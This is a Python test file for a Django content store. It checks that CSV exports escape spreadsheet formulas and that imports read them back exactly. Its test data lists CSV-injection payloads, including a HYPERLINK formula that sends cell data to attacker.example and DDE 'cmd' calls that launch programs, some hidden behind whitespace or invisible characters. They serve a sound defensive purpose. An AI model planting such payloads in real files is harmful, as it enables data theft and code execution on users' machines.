"""A message set's CSV never hands a spreadsheet a formula to run, and still imports back exactly.

Text that a spreadsheet would run (=, +, -, @ first, also after whitespace; a tab or carriage
return first) is exported after a ', on every face that exports (the selector, the command, the
admin's button and action), and the import takes that ' off again.
"""

import csv
import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command
from hypothesis import given
from hypothesis import strategies as st

from contentstore import selectors
from contentstore.services import message_csv

from .factories import make_message, make_messageset
from .test_message_csv import import_text, messages_of

pytestmark = pytest.mark.django_db

ADMIN = "/admin/contentstore"

FORMULAS = [
    '=HYPERLINK("http://attacker.example/?d="&A1,"Click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "=1+1",
    "  =cmd|' /C calc'!A0",
    "\t=1+1",
    "\u00a0@SUM(A1)",
    "\r=1",
    "\n=1+1",
    "\ufeff=1+1",
    "\u200b @SUM(A1)",
    "\uff1d1+1",
]
# Texts that look like the escape itself: they must come back with their quotes.
QUOTED = ["'=1+1", "''@SUM(A1)", "'plain", "'", "' -1", "it's =fine"]


def runs_in_a_spreadsheet(cell: str) -> bool:
    """Whether a spreadsheet may treat `cell` as a formula (told apart from the code under test)."""
    visible = cell.lstrip().lstrip("\u200b\u200c\u200d\u2060\ufeff").lstrip()
    return cell[:1] in ("\t", "\r") or visible[:1] in ("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def exported_cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))[1:]


@pytest.fixture
def risky_set():
    messageset = make_messageset("risky")
    for number, text in enumerate(FORMULAS + QUOTED, start=1):
        make_message(messageset, number, "eng", text_content=text)
    make_message(messageset, 1, "=1+1", text_content="A formula as the language")
    make_message(messageset, 2, "@A1", text_content="-")
    return messageset


def test_no_exported_cell_is_a_formula(risky_set):
    out = io.StringIO()
    selectors.message_export_csv(messageset=risky_set, file=out)
    cells = [cell for row in exported_cells(out.getvalue()) for cell in row]
    assert len(cells) == 5 * (len(FORMULAS) + len(QUOTED) + 2)
    assert [cell for cell in cells if runs_in_a_spreadsheet(cell)] == []
    assert '\'=HYPERLINK("http://attacker.example/?d="&A1,"Click")' in cells
    assert "'=1+1" in cells  # the language
    assert "'''=1+1" not in cells and "''=1+1" in cells  # the text that was '=1+1


def test_an_export_imports_back_exactly(risky_set):
    out = io.StringIO()
    selectors.message_export_csv(messageset=risky_set, file=out)
    copy = make_messageset("copy")
    import_text(copy, out.getvalue())
    assert messages_of(copy) == messages_of(risky_set)


def test_the_export_command_escapes_formulas_and_the_import_command_reads_them_back(risky_set, tmp_path):
    path = tmp_path / "risky.csv"
    call_command("export_messages", "risky", "--output", str(path), stderr=io.StringIO())
    with open(path, encoding="utf-8", newline="") as file:
        cells = [cell for row in exported_cells(file.read()) for cell in row]
    assert [cell for cell in cells if runs_in_a_spreadsheet(cell)] == []
    copy = make_messageset("copy")
    call_command("import_messages", "copy", str(path), "--no-progress", stdout=io.StringIO())
    assert messages_of(copy) == messages_of(risky_set)


def test_the_admin_export_escapes_formulas_and_the_admin_import_reads_them_back(admin_client, risky_set):
    exported = admin_client.get(f"{ADMIN}/messageset/{risky_set.pk}/export/")
    by_action = admin_client.post(
        f"{ADMIN}/messageset/", {"action": "export_messages", "_selected_action": [risky_set.pk]}
    )
    assert by_action.content == exported.content
    text = exported.content.decode()
    assert [cell for row in exported_cells(text) for cell in row if runs_in_a_spreadsheet(cell)] == []
    copy = make_messageset("copy")
    response = admin_client.post(
        f"{ADMIN}/messageset/{copy.pk}/import/", {"file": SimpleUploadedFile("m.csv", exported.content)}
    )
    assert response.status_code == 302
    assert messages_of(copy) == messages_of(risky_set)


def test_a_hand_written_file_may_escape_a_formula_the_same_way():
    messageset = make_messageset()
    import_text(messageset, "sequence_number,lang,text_content\n1,eng,'=2+2\n2,'@x,'plain\n")
    assert [(m[0], m[1], m[2]) for m in messages_of(messageset)] == [(1, "eng", "=2+2"), (2, "@x", "'plain")]


@given(st.text())
def test_every_text_survives_the_escape_and_none_is_left_runnable(text):
    cell = message_csv.csv_cell(text)
    assert message_csv.csv_cell_value(cell) == text
    assert not runs_in_a_spreadsheet(cell)
    assert cell == text or cell == f"'{text}"
